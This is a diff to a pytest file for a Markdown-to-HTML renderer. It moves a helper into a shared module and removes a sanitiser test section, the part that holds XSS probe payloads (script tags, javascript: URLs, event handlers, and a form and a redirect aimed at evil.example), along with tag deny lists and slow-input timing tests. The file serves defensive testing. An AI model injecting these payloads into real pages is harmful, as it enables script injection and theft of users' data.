@@ -1,42 +1,11 @@
 """Markdown to safe HTML, as a page takes it."""
 
-import time
-from collections.abc import Callable
-from html.parser import HTMLParser
-
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from content.elements import MOST_TAGS
-from content.reader import read_chapter
 from content.rendering import render, render_inline
-
-
-def known(target: str) -> str:
-    return f"/here/{target}"
-
-
-class _Tags(HTMLParser):
-    """Every tag and attribute of a page."""
-
-    def __init__(self, html: str) -> None:
-        super().__init__()
-        self.tags: list[tuple[str, dict[str, str | None]]] = []
-        self.open: list[str] = []
-        self.feed(html)
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        self.tags.append((tag, dict(attrs)))
-        if tag not in ("br", "hr", "img", "input"):
-            self.open.append(tag)
-
-    def handle_endtag(self, tag: str) -> None:
-        assert self.open.pop() == tag
-
-    def named(self, tag: str) -> list[dict[str, str | None]]:
-        return [attributes for name, attributes in self.tags if name == tag]
-
+from tests.content.pages import Tags, known
 
 # Code
 
@@ -55,7 +24,7 @@ def test_code_is_coloured_by_classes_in_a_box_that_scrolls() -> None:
      ("no-such", "no-such"), ("python,ignore", "python"), ("c++", "c++")],
 )  # fmt: skip
 def test_a_fence_says_its_language(info: str, label: str | None) -> None:
-    (box,) = _Tags(render(f"```{info}\n<x>\n```")).named("div")
+    (box,) = Tags(render(f"```{info}\n<x>\n```")).named("div")
     assert box.get("data-lang") == label
 
 
@@ -75,7 +44,7 @@ def test_very_long_code_is_kept_without_colours() -> None:
 
 
 def test_a_table_scrolls_in_a_region_and_aligns_by_attribute() -> None:
-    tags = _Tags(render("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |"))
+    tags = Tags(render("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |"))
     assert tags.named("div") == [
         {"class": "table-scroll", "tabindex": "0", "role": "group", "aria-label": "Table"}
     ]
@@ -87,7 +56,7 @@ def test_a_head_alone_is_a_table() -> None:
 
 
 def test_task_boxes_are_marked_and_disabled() -> None:
-    boxes = _Tags(render("- [ ] oak\n- [X] elm\n\n1. [x] **ash**")).named("input")
+    boxes = Tags(render("- [ ] oak\n- [X] elm\n\n1. [x] **ash**")).named("input")
     assert ["checked" in box for box in boxes] == [False, True, True]
     assert all(box["type"] == "checkbox" and "disabled" in box for box in boxes)
     assert all(box["aria-label"] for box in boxes)
@@ -117,7 +86,7 @@ def test_footnotes_stand_at_the_end_in_the_order_of_their_marks() -> None:
     assert html.index("Second") < html.index("First")
     assert "Unused" not in html
     assert "[^none]" in html
-    tags = _Tags(html)
+    tags = Tags(html)
     ids = [attributes["id"] for _, attributes in tags.tags if attributes.get("id")]
     assert len(ids) == len(set(ids)) == 4
     targets = [link["href"] for link in tags.named("a")]
@@ -125,7 +94,7 @@ def test_footnotes_stand_at_the_end_in_the_order_of_their_marks() -> None:
 
 
 def test_footnotes_of_two_texts_share_a_page() -> None:
-    first, second = (_Tags(render(f"{word}[^1]", definitions="[^1]: Note")) for word in ("a", "b"))
+    first, second = (Tags(render(f"{word}[^1]", definitions="[^1]: Note")) for word in ("a", "b"))
     ids = [attributes.get("id") for tags in (first, second) for _, attributes in tags.tags]
     found = [identity for identity in ids if identity]
     assert len(found) == len(set(found)) == 4
@@ -282,13 +251,13 @@ def test_a_missing_image_without_words_shows_its_file() -> None:
 
 def test_headings_bear_the_given_anchors_in_order() -> None:
     html = render("#### Oak\n\n> #### Elm\n\n##### Ash", anchors=["oak", "", "ash-1"])
-    assert [h.get("id") for h in _Tags(html).named("h4")] == ["oak", None]
-    assert [h.get("id") for h in _Tags(html).named("h5")] == ["ash-1"]
+    assert [h.get("id") for h in Tags(html).named("h4")] == ["oak", None]
+    assert [h.get("id") for h in Tags(html).named("h5")] == ["ash-1"]
 
 
 def test_headings_follow_the_one_above_without_a_gap() -> None:
     html = render("#### a\n###### b\n#### c\n##### d\n## e", under=2)
-    assert [tag for tag, _ in _Tags(html).tags] == ["h3", "h4", "h3", "h4", "h3"]
+    assert [tag for tag, _ in Tags(html).tags] == ["h3", "h4", "h3", "h4", "h3"]
     assert "<h6>" in render("# a\n\n## b", under=5)
 
 
@@ -332,154 +301,3 @@ def test_plain_words_take_a_short_way_to_the_same_place(text: str) -> None:
     if long_way.startswith("<p>") and long_way.count("<") == 2:
         long_way = long_way.removeprefix("<p>").removesuffix("</p>")
         assert render_inline(text) == long_way
-
-
-# What must not get through
-
-PROBES = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
-    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
-    "<iframe src='javascript:alert(1)'></iframe>",
-    "<object data='data:text/html,<script>alert(1)</script>'></object>",
-    "<a href='javascript:alert(1)'>x</a>",
-    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
-    "[x](javascript:alert(1))",
-    "[x](javascript&#58;alert(1))",
-    "[x](<java\tscript:alert(1)>)",
-    "[x][y]\n\n[y]: javascript:alert(1)",
-    "![x](javascript:alert(1))",
-    '![x" onerror="alert(1)](a.png)',
-    '[x](a.md "t\\" onclick=\\"alert(1)")',
-    "<div style='background:url(javascript:alert(1))'>x</div>",
-    "<style>@import '//evil.example'</style>",
-    "<form action=//evil.example><input name=q><button>Go</button></form>",
-    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<details ontoggle=alert(1) open><summary onclick=alert(1)>x</summary></details>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
-    "<p><table><tr><td background='javascript:alert(1)'>x</td></tr></table>",
-    "```\"><script>alert(1)</script>\nx\n```",
-    "```x onmouseover=alert(1)\nx\n```",
-    "`<script>alert(1)</script>`",
-    "# <img src=x onerror=alert(1)>",
-    "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
-    "[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
-    "> [!NOTE]\n> <script>alert(1)</script>",
-    "- [ ] <img src=x onerror=alert(1)>",
-    "<!--><script>alert(1)</script>-->",
-    "<a id=login name=login href=# target=_blank>x</a><h3 id=csrfmiddlewaretoken>y</h3>",
-    "<span class='link-missing topbar'>x</span><img class=k src=a.png srcset='//evil.example 2x'>",
-    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 <b>x</b>",
-    "<https://a.b/'onclick='alert(1)>",
-    "<b>x</b><template><script>alert(1)</script></template>",
-]  # fmt: skip
-
-ALLOWED = {
-    "a": {"class", "href", "rel", "title"},
-    "abbr": {"title"},
-    "aside": {"class"},
-    "details": {"open"},
-    "div": {"aria-label", "class", "data-lang", "role", "tabindex"},
-    "img": {"alt", "loading", "src"},
-    "input": {"aria-label", "checked", "disabled", "type"},
-    "li": {"class", "id", "value"},
-    "ol": {"reversed", "start"},
-    "p": {"class"},
-    "pre": {"tabindex"},
-    "section": {"class"},
-    "span": {"aria-label", "class", "role"},
-    "sup": {"class", "id"},
-    "td": {"align", "colspan", "rowspan"},
-    "th": {"align", "colspan", "rowspan", "scope"},
-}
-NEVER = {"base", "button", "embed", "form", "iframe", "link", "math", "meta", "object", "script",
-         "select", "style", "svg", "template", "textarea", "video"}  # fmt: skip
-CLASSES = {"callout", "callout-note", "callout-title", "code", "figure-missing", "footnote-back",
-           "footnote-mark", "footnotes", "k", "link-missing", "table-scroll",
-           "task-list-item"}  # fmt: skip
-
-
-def _assert_harmless(html: str, *, scope: str = "") -> None:
-    for tag, attributes in _Tags(html).tags:
-        assert tag not in NEVER
-        assert set(attributes) <= ALLOWED.get(tag, {"id"} if tag[0] == "h" else set()), (tag, html)
-        assert set((attributes.get("class") or "").split()) <= CLASSES
-        identity = attributes.get("id") or ""
-        assert not identity or identity.startswith(("fn-", "fnref-")), html
-        href = attributes.get("href") or "#"
-        assert href.startswith(("#", "/here/", "http://", "https://", "mailto:")), html
-        assert (attributes.get("src") or "/here/").startswith("/here/"), html
-        assert tag != "input" or (attributes["type"] == "checkbox" and "disabled" in attributes)
-
-
-@pytest.mark.parametrize("probe", PROBES)
-def test_nothing_harmful_gets_through(probe: str) -> None:
-    for text in (
-        probe,
-        f"oak {probe}",
-        f"- oak\n\n  {probe}",
-        f"> {probe}",
-        f"<div>\n{probe}\n</div>",
-    ):
-        _assert_harmless(render(text, link=known, image=known))
-        _assert_harmless(render_inline(text, link=known, image=known))
-
-
-def test_ids_are_the_texts_own_headings_and_footnotes() -> None:
-    html = render('<h3 id="login">x</h3>\n\n#### Oak\n\n<li id="fn-1">y</li>', anchors=["oak"])
-    assert [a["id"] for _, a in _Tags(html).tags if "id" in a] == ["oak"]
-
-
-_PIECES = st.sampled_from(
-    [*PROBES, "<", ">", "&", '"', "'", "`", "```\n", "[", "](", ")", "![", "<a href=", "<!--",
-     "-->", "<b>", "</div>", "\n", "\n\n", "- ", "> ", "    ", "|", "|-|\n", "[^1]", "[^1]: ", "*",
-     "\\", "#"]
-)  # fmt: skip
-
-
-@settings(max_examples=300, deadline=None)
-@given(st.lists(_PIECES, max_size=12).map("".join))
-def test_no_mixture_of_probes_gets_through(text: str) -> None:
-    _assert_harmless(render(text, link=known, image=known))
-    _assert_harmless(render_inline(text, link=known, image=known))
-
-
-@settings(max_examples=300, deadline=None)
-@given(st.text(max_size=200))
-def test_any_text_renders(text: str) -> None:
-    _assert_harmless(render(text, link=known, image=known))
-
-
-# What must not take long: four times the text may take eight times as long, not sixteen
-
-HOSTILE = ["[", "![", "[a](", "[a](b) ", "*", "*a ", "**a *b ", "_a", "~~a ", "`", "` ", "<", "<a ",
-           "<!--", "<b><i>", "<div>\n\n", "> ", ">", "- ", "1. ", "> - ", "|a", "&", "&#", "\\",
-           "a\n-\n", "- a\n", "[a]: b\n", "[a]: b '\n", "[^1]: a\n", "```\n", "https://a.b/) ",
-           ":a", "a  \n", "\t", "![a](b)\n\n", "# a\n", "# Quiz\n# Answers\n",
-           "```js\n/a\n```\n"]  # fmt: skip
-
-
-def _seconds(work: Callable[[str], object], text: str) -> float:
-    start = time.process_time()
-    work(text)
-    return time.process_time() - start
-
-
-@pytest.mark.parametrize("piece", HOSTILE)
-def test_hostile_text_takes_time_by_its_length_alone(piece: str) -> None:
-    for work in (render, lambda text: read_chapter(text, path="a.md")):
-        short, long = ((piece * size)[:size] for size in (30_000, 120_000))
-        assert _seconds(work, long) < 8 * _seconds(work, short) + 0.4
-
-
-def test_more_tags_than_anybody_writes_are_text() -> None:
-    html = render("<div>\n\n" * (MOST_TAGS + 10))
-    assert html.count("<div>") == MOST_TAGS
-    assert html.count("&lt;div&gt;") == 10
-
-
-def test_a_long_line_in_a_list_item_is_kept() -> None:
-    words = "*a* " * 3_000
-    assert words.strip() in render(f"- {words}")
